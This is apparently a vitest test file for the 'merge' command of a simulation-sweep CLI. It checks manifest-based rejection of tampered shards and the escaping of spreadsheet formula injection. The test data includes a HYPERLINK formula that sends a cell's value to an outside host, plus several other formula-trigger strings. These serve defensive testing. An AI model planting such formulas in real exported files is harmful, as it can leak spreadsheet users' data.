import { copyFileSync, readFileSync, writeFileSync } from 'node:fs'
import Papa from 'papaparse'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { protectCell, unprotectCell } from '../../src/io/csv-columns.js'
import { lines, runInProcess, scratchFolder, wardModel } from './harness.js'

let folder: ReturnType<typeof scratchFolder>
beforeEach(() => {
  folder = scratchFolder()
})
afterEach(() => folder.remove())

const hostileNames = ['=HYPERLINK("http://example.org/?"&A1,"open")', '＝1+1', '@SUM(A1)', '\tlead']

/** 2 × 4 parameter sets × 1 replicate = 8 short runs of 2 metrics, with scenario names a spreadsheet would run. */
const writeSpec = (): string => {
  const spec = {
    seed: 5,
    days: 20,
    modelPath: wardModel,
    vary: { grid: { respond: [0.2, 0.8], scenario: hostileNames } },
    scenarios: hostileNames.map((name) => ({ name, interventions: [] })),
    metrics: ['closureRate', 'experiencesRaised'],
  }
  writeFileSync(folder.file('spec.json'), JSON.stringify(spec))
  return folder.file('spec.json')
}

/** Run the spec whole and as three shards, in `extension` files. */
const sweepShards = async (extension: string): Promise<ReadonlyArray<string>> => {
  const spec = writeSpec()
  expect((await runInProcess(['sweep', spec, '--out', folder.file(`all.${extension}`), '--workers', '0'])).code).toBe(0)
  const parts = [0, 1, 2].map((index) => folder.file(`part-${index}.${extension}`))
  for (const [index, part] of parts.entries()) {
    expect((await runInProcess(['sweep', spec, '--out', part, '--shard', `${index}/3`, '--workers', '0'])).code).toBe(0)
  }
  return parts
}

const read = (path: string): string => readFileSync(path, 'utf8')

/** Merge the parts after `edit` changed the first, expecting a refusal that names it and `message`. */
const expectRefusal = async (parts: ReadonlyArray<string>, edit: (text: string) => string, message: string): Promise<void> => {
  writeFileSync(parts[0]!, edit(read(parts[0]!)))
  const before = folder.names()
  const out = folder.file(parts[0]!.endsWith('.csv') ? 'merged.csv' : 'merged.jsonl')
  const result = await runInProcess(['merge', ...parts, '--out', out])
  expect(result.code).toBe(1)
  expect(lines(result.stderr)).toEqual([
    `${parts[0]}: ${message} [invalid-rows]`,
    'orgintel merge: nothing was written: the files are not the complete shards of one experiment',
  ])
  expect(folder.names()).toEqual(before)
}

const linesOf = (text: string): string[] => text.split('\n')

describe('merge checks every row against its manifest', () => {
  it('merges untouched shards to exactly the unsharded output', async () => {
    const parts = await sweepShards('csv')
    const result = await runInProcess(['merge', ...parts, '--out', folder.file('merged.csv')])
    expect(result.code).toBe(0)
    expect(read(folder.file('merged.csv'))).toBe(read(folder.file('all.csv')))
    expect(read(folder.file('merged.csv.manifest.json'))).toBe(read(folder.file('all.csv.manifest.json')))
    expect(JSON.parse(read(folder.file('all.csv.manifest.json')))).toMatchObject({ failures: [], rowsSha256: expect.stringMatching(/^[0-9a-f]{64}$/) })
  })

  it.each([
    ['a truncated last line', (text: string) => text.slice(0, -4), /^Line 7 has no line end: the file is cut short\.$/],
    ['an empty shard', (text: string) => `${linesOf(text)[0]}\n`, /^Line 2 is where the file ends, after 0 of the 6 rows the manifest lists: rows are missing\.$/],
    ['a renamed header', (text: string) => text.replace('respond', 'Respond'), /^Line 1 is not the header the manifest names \(run,replicate,seed,respond,scenario,metric,value\)\.$/],
    ['reordered headers', (text: string) => text.replace('respond,scenario', 'scenario,respond'), /^Line 1 is not the header/],
    ['a missing header', (text: string) => linesOf(text).slice(1).join('\n'), /^Line 1 is not the header/],
    ['a deleted row', (text: string) => linesOf(text).filter((_, index) => index !== 2).join('\n'), /^Line 3 is a row of run 3 where run 0 comes: rows are duplicated, missing or out of order\.$/],
    ['a duplicated row', (text: string) => { const all = linesOf(text); all.splice(2, 0, all[2]!); return all.join('\n') }, /^Line 4 is a row of run 0 where run 3 comes: rows are duplicated, missing or out of order\.$/],
    ['a row of another shard', (text: string) => { const all = linesOf(text); all.splice(1, 0, linesOf(read(folder.file('part-1.csv')))[1]!); return all.join('\n') }, /^Line 2 is a row of run 1, which is not one of this shard's runs \(a row from another shard\?\)\.$/],
    ['a garbage line', (text: string) => { const all = linesOf(text); all.splice(4, 0, 'hello, world'); return all.join('\n') }, /^Line 5 does not have the fields of this experiment's rows/],
    ['CRLF line ends', (text: string) => text.replace(/\n/g, '\r\n'), /^Line 1 ends with CR LF, but the sweep writes LF line ends/],
    ['a changed value', (text: string) => text.replace(/,closureRate,([0-9.]+)\n/, ',closureRate,0.123456\n'), /^The file has rows that differ from those the sweep wrote \(their SHA-256 is not the one in the manifest\): a value was changed\.$/],
  ])('refuses %s, naming the file and line', async (_, edit, message) => {
    const parts = await sweepShards('csv')
    writeFileSync(parts[0]!, edit(read(parts[0]!)))
    const result = await runInProcess(['merge', ...parts, '--out', folder.file('merged.csv')])
    expect(result.code).toBe(1)
    const [first, ...rest] = lines(result.stderr)
    expect(first!.startsWith(`${parts[0]}: `)).toBe(true)
    expect(first!.slice(parts[0]!.length + 2).replace(/ \[invalid-rows\]$/, '')).toMatch(message)
    expect(rest).toEqual(['orgintel merge: nothing was written: the files are not the complete shards of one experiment'])
    expect(folder.names().filter((name) => name.startsWith('merged') || name.startsWith('.orgintel-'))).toEqual([])
  })

  it('refuses JSON Lines with a truncated or garbage line, and a CSV file named .jsonl, never with "internal error"', async () => {
    const parts = await sweepShards('jsonl')
    const original = read(parts[0]!)
    await expectRefusal(parts, (text) => text.slice(0, -10), 'Line 6 has no line end: the file is cut short.')
    writeFileSync(parts[0]!, original)
    await expectRefusal(parts, (text) => text.replace('\n', '\n{"run":0,\n'), 'Line 2 is not valid JSON (cut short, or not a row the sweep wrote).')
    writeFileSync(parts[0]!, original)
    await expectRefusal(parts, (text) => text.replace('\n', '\n[1,2]\n'), "Line 2 does not have the fields of this experiment's rows (cut short, changed, or not a row the sweep wrote).")
    await sweepShards('csv')
    copyFileSync(folder.file('part-0.csv'), parts[0]!)
    copyFileSync(folder.file('part-0.csv.manifest.json'), `${parts[0]}.manifest.json`)
    await expectRefusal(parts, (text) => text, 'Line 1 is a CSV header, not JSON: is this a CSV file named .jsonl?')
  })

  it('refuses to write over one of its inputs unless --force is given', async () => {
    const parts = await sweepShards('csv')
    const before = read(parts[1]!)
    const result = await runInProcess(['merge', ...parts, '--out', parts[1]!])
    expect(result.code).toBe(2)
    expect(lines(result.stderr)).toEqual([`orgintel merge: refusing to write ${parts[1]}: it is also an input of this command (give --force to overwrite it)`])
    expect(read(parts[1]!)).toBe(before)
  })

  it('stops on its signal, leaving no temporary file and no output', async () => {
    const parts = await sweepShards('csv')
    const controller = new AbortController()
    controller.abort('SIGINT')
    const before = folder.names()
    const result = await runInProcess(['merge', ...parts, '--out', folder.file('merged.csv')], { signal: controller.signal })
    expect(result.code).toBe(130)
    expect(lines(result.stderr)).toEqual([`orgintel merge: stopped by SIGINT; ${folder.file('merged.csv')} was not written`])
    expect(folder.names()).toEqual(before)
  })
})

describe('formula injection in result files', () => {
  it('protects every text cell the sweep and merge write, full-width forms included', async () => {
    const parts = await sweepShards('csv')
    expect((await runInProcess(['merge', ...parts, '--out', folder.file('merged.csv')])).code).toBe(0)
    for (const file of ['all.csv', 'merged.csv']) {
      const table = Papa.parse<Record<string, string>>(read(folder.file(file)), { header: true, skipEmptyLines: true })
      const scenarios = new Set(table.data.map((row) => row['scenario']!))
      expect([...scenarios].sort()).toEqual(hostileNames.map((name) => `'${name}`).sort())
      for (const row of table.data) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r＝＋－＠]|^-[^0-9]/)
    }
  })

  it('protectCell guards the full-width formula characters too, and unprotectCell undoes it', () => {
    for (const cell of ['＝1+1', '＋A1', '－A1', '＠SUM(A1)', '=1', '+1', '-1', '@x', '\tx', '\rx']) {
      expect(protectCell(cell)).toBe(`'${cell}`)
      expect(unprotectCell(protectCell(cell))).toBe(cell)
    }
    expect(protectCell('1＝1')).toBe('1＝1')
  })
})
